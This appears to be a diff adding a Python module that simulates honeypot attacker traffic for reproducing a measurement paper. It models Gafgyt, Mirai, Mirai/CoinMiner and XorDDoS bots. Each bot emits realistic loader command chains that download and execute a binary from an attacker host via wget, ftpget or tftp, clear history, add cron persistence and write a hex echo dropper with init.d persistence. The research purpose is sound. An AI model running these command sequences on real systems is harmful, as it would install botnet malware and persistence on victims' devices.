@@ -1,0 +1,252 @@
+"""Family bots with distinctive command sequences (the Figure 6 clusters).
+
+Beyond the minimal Cluster-1 loaders, the paper's clustering isolates
+family-specific behaviours: Gafgyt's multi-fallback chains (C-2),
+Mirai's staged busybox loaders (C-3), a Mirai/CoinMiner cron hybrid
+(C-4), and XorDDoS's long echo-hex dropper with init.d persistence
+(C-6).  XorDDoS stops abruptly in early 2024 — the takedown signal the
+paper discusses — and Mirai resurges in spring 2024 with the Corona,
+Kyton and Ares strains.
+"""
+
+from __future__ import annotations
+
+import random
+from datetime import date
+
+from repro.attackers.activity import Campaign, ConstantRate, SumRate, Wave
+from repro.attackers.base import SAFE_NAME_ALPHABET, Bot, BotContext
+from repro.attackers.dictionary import root_credential
+from repro.attackers.ippool import ClientIPPool
+from repro.attackers.malware import MIRAI_2024_STRAINS, MalwareFamily
+from repro.config import SimulationConfig
+from repro.honeypot.session import ConnectionIntent
+from repro.net.population import BasePopulation
+from repro.util.rng import RngTree
+
+#: The documented end of XorDDoS activity (early 2024).
+XORDDOS_STOP = date(2024, 1, 20)
+
+
+class GafgytWaveBot(Bot):
+    """Gafgyt (C-2): fallback-heavy loader chains in campaign waves."""
+
+    def __init__(self, population: BasePopulation, tree: RngTree, config: SimulationConfig) -> None:
+        pool = ClientIPPool(
+            "gafgyt_wave", population, tree, paper_ips=45_000, scale=config.scale
+        )
+        activity = SumRate(
+            [
+                Wave(date(2022, 2, 20), 25, 8_000),  # the early-2022 spike
+                Wave(date(2022, 12, 10), 20, 5_000),
+                Wave(date(2023, 9, 15), 20, 4_000),
+            ]
+        )
+        super().__init__("gafgyt_wave", activity, pool)
+
+    def build_intent(
+        self, ctx: BotContext, day: date, rng: random.Random, index: int
+    ) -> ConnectionIntent:
+        sample = ctx.malware.sample_for(
+            MalwareFamily.GAFGYT, stream=self.name,
+            day_ordinal=day.toordinal(), strain="wave",
+        )
+        host = ctx.infrastructure.pick_host(rng, day)
+        arch = rng.choice(("x86", "arm7", "mips", "sh4"))
+        filename = f"gaf.{arch}"
+        http_url = host.url_for(filename)
+        ftp_url = host.url_for(filename, scheme="ftp")
+        captured = rng.random() < 0.55
+        remote = (
+            ((http_url, sample.content), (ftp_url, sample.content))
+            if captured
+            else ()
+        )
+        lines = (
+            "cd /tmp || cd /var/run || cd /dev/shm",
+            f"ftpget -u anonymous -p anonymous {host.ip} {filename} {filename}"
+            f" || wget {http_url}",
+            f"chmod 777 {filename}",
+            f"./{filename} telnet.loader",
+            f"rm -rf {filename}",
+            "history -c",
+        )
+        return self.make_intent(
+            rng,
+            credentials=(root_credential(rng),),
+            command_lines=lines,
+            remote_files=remote,
+        )
+
+
+class MiraiWaveBot(Bot):
+    """Mirai (C-3): staged multi-arch busybox loader, in waves.
+
+    The spring-2024 resurgence serves the classic strains the paper
+    verified against abuse databases (Corona, Kyton, Ares).
+    """
+
+    telnet_fraction = 0.2
+
+    def __init__(self, population: BasePopulation, tree: RngTree, config: SimulationConfig) -> None:
+        pool = ClientIPPool(
+            "mirai_wave", population, tree, paper_ips=70_000, scale=config.scale
+        )
+        activity = SumRate(
+            [
+                Wave(date(2022, 3, 15), 22, 4_500),
+                Wave(date(2022, 12, 15), 15, 5_200),  # the Dec-2022 burst
+                Campaign(date(2024, 3, 1), config.end, 4_000),  # resurgence
+            ]
+        )
+        super().__init__("mirai_wave", activity, pool)
+
+    def _strain(self, day: date, rng: random.Random) -> str:
+        if day >= date(2024, 3, 1):
+            return rng.choice(list(MIRAI_2024_STRAINS))
+        return "classic"
+
+    def build_intent(
+        self, ctx: BotContext, day: date, rng: random.Random, index: int
+    ) -> ConnectionIntent:
+        strain = self._strain(day, rng)
+        sample = ctx.malware.sample_for(
+            MalwareFamily.MIRAI, stream=self.name,
+            day_ordinal=day.toordinal(), strain=strain,
+        )
+        host = ctx.infrastructure.pick_host(rng, day)
+        arch = rng.choice(("x86", "arm", "arm7", "mips", "mpsl", "sh4"))
+        filename = f"mirai.{arch}"
+        url = host.url_for(filename)
+        tftp_url = host.url_for(filename, scheme="tftp")
+        captured = rng.random() < (0.5 if day < date(2023, 1, 1) else 0.25)
+        remote = (
+            ((url, sample.content), (tftp_url, sample.content))
+            if captured
+            else ()
+        )
+        # the five-char applet probe makes these sessions land in the
+        # bbox_5_char_v2 category — the Mirai-style busybox loader that
+        # stays active through the 2024 resurgence
+        marker = "".join(
+            rng.choice("ABCDEFGHJKLMNPQRSTUVWXYZ") for _ in range(5)
+        )
+        lines = (
+            f"/bin/busybox {marker}",
+            "cd /tmp || cd /var/run || cd /mnt",
+            f"/bin/busybox wget {url} -O {filename} || "
+            f"/bin/busybox tftp -g -r {filename} {host.ip}",
+            f"/bin/busybox chmod 777 {filename}",
+            f"./{filename} {strain.lower()}.scan",
+            f"rm -rf {filename}",
+        )
+        return self.make_intent(
+            rng,
+            credentials=(root_credential(rng),),
+            command_lines=lines,
+            remote_files=remote,
+        )
+
+
+class MiraiCoinMinerBot(Bot):
+    """C-4: hybrid sessions staging both a Mirai bot and a miner."""
+
+    def __init__(self, population: BasePopulation, tree: RngTree, config: SimulationConfig) -> None:
+        pool = ClientIPPool(
+            "mirai_coinminer", population, tree, paper_ips=25_000,
+            scale=config.scale,
+        )
+        activity = SumRate(
+            [
+                Campaign(date(2023, 3, 1), date(2023, 8, 31), 2_500),
+                Wave(date(2024, 5, 10), 20, 2_000),
+            ]
+        )
+        super().__init__("mirai_coinminer", activity, pool)
+
+    def build_intent(
+        self, ctx: BotContext, day: date, rng: random.Random, index: int
+    ) -> ConnectionIntent:
+        family = rng.choice((MalwareFamily.MIRAI, MalwareFamily.COINMINER))
+        sample = ctx.malware.sample_for(
+            family, stream=self.name, day_ordinal=day.toordinal(),
+            strain="hybrid",
+        )
+        host = ctx.infrastructure.pick_host(rng, day)
+        url = host.url_for("m.sh")
+        captured = rng.random() < 0.45
+        remote = ((url, sample.content),) if captured else ()
+        lines = (
+            "cd /tmp",
+            f"wget {url} -O m.sh",
+            "chmod +x m.sh",
+            "./m.sh",
+            'echo "*/10 * * * * /tmp/m.sh" | crontab -',
+            "nohup ./m.sh",
+            "crontab -l",
+        )
+        return self.make_intent(
+            rng,
+            credentials=(root_credential(rng),),
+            command_lines=lines,
+            remote_files=remote,
+        )
+
+
+class XorDdosBot(Bot):
+    """XorDDoS (C-6): long echo-hex dropper with init.d persistence."""
+
+    def __init__(self, population: BasePopulation, tree: RngTree, config: SimulationConfig) -> None:
+        pool = ClientIPPool(
+            "xorddos", population, tree, paper_ips=35_000, scale=config.scale
+        )
+        super().__init__(
+            "xorddos",
+            ConstantRate(1_100, config.start, XORDDOS_STOP),
+            pool,
+        )
+
+    def build_intent(
+        self, ctx: BotContext, day: date, rng: random.Random, index: int
+    ) -> ConnectionIntent:
+        sample = ctx.malware.sample_for(
+            MalwareFamily.XORDDOS, stream=self.name,
+            day_ordinal=day.toordinal(), strain="xor",
+        )
+        name = "".join(rng.choice(SAFE_NAME_ALPHABET) for _ in range(10))
+        # the payload is written through the shell in hex chunks, so the
+        # honeypot always captures it (echo droppers cannot hide)
+        chunks = [
+            sample.content[offset : offset + 24]
+            for offset in range(0, len(sample.content), 24)
+        ]
+        lines: list[str] = ["cd /tmp", f"rm -rf /tmp/{name}"]
+        for position, chunk in enumerate(chunks):
+            escaped = "".join(f"\\x{byte:02x}" for byte in chunk)
+            redir = ">" if position == 0 else ">>"
+            lines.append(f'echo -ne "{escaped}" {redir} {name}')
+        lines.extend(
+            [
+                f"chmod 0755 /tmp/{name}",
+                f"/tmp/{name}",
+                f"cp /tmp/{name} /etc/init.d/{name}",
+                f"ln /etc/init.d/{name} /etc/rc4.d/S90{name}",
+                f"rm -rf /tmp/{name}",
+            ]
+        )
+        return self.make_intent(
+            rng,
+            credentials=(root_credential(rng),),
+            command_lines=tuple(lines),
+        )
+
+
+def build_family_bots(
+    population: BasePopulation, tree: RngTree, config: SimulationConfig
+) -> list[Bot]:
+    return [
+        GafgytWaveBot(population, tree, config),
+        MiraiWaveBot(population, tree, config),
+        MiraiCoinMinerBot(population, tree, config),
+        XorDdosBot(population, tree, config),
+    ]
